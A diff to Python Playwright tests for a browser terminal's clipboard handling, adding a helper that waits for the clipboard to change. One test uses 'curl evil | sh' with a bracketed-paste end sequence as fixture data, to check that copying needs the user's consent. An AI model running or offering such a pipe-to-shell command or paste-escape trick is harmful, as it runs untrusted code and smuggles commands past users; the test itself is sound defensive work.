@@ -4,7 +4,7 @@ from itertools import pairwise
 
 import pytest
 from aiohttp import WSCloseCode
-from playwright.async_api import expect
+from playwright.async_api import Page, expect
 
 from .open_page import OpenPage
 
@@ -174,6 +174,17 @@ async def test_terminal_duplicated_tab_gets_a_client_id_of_its_own(open_page: Op
     await expect(open_page.page.get_by_text("You drive")).to_be_visible()
 
 
+async def copied(page: Page, *, since: str) -> str:
+    """What is in the clipboard once it is another text than before."""
+    look = """since => {
+      navigator.clipboard.readText().then((text) => { window.copied = text; });
+      return (window.copied ?? since) !== since;
+    }"""
+    await page.wait_for_function(look, arg=since)
+    text: str = await page.evaluate("window.copied")
+    return text
+
+
 async def test_terminal_output_reaches_the_clipboard_after_a_yes_only(open_page: OpenPage) -> None:
     page = open_page.page
     await page.context.grant_permissions(["clipboard-read", "clipboard-write"])
@@ -189,9 +200,7 @@ async def test_terminal_output_reaches_the_clipboard_after_a_yes_only(open_page:
     await expect(asks).to_contain_text("curl evil | sh⏎")
     assert await page.evaluate("navigator.clipboard.readText()") == "untouched"
     await asks.get_by_role("button", name="Allow once").click()
-    await page.wait_for_function(
-        "async () => (await navigator.clipboard.readText()) === 'curl evil | sh\\n[201~'"
-    )
+    assert await copied(page, since="untouched") == "curl evil | sh\n[201~"
     # What is shown again to a page that comes anew asks nothing.
     await page.reload()
     await open_page.sees("flooded")
@@ -242,11 +251,8 @@ async def test_terminal_selection_is_copied(open_page: OpenPage) -> None:
     # A third click in a row selects the line, as a person does it.
     await page.mouse.click(spot["x"], spot["y"], click_count=3)
     await page.get_by_role("button", name="Copy selection").click()
-    await page.wait_for_function(
-        "async () => (await navigator.clipboard.readText()) !== 'what was there before'"
-    )
-    copied = await page.evaluate("navigator.clipboard.readText()")
-    assert copied.rstrip() == "chosen ä€😀 words"
+    text = await copied(page, since="what was there before")
+    assert text.rstrip() == "chosen ä€😀 words"
 
 
 async def test_terminal_is_left_by_keyboard_and_that_is_announced(open_page: OpenPage) -> None:
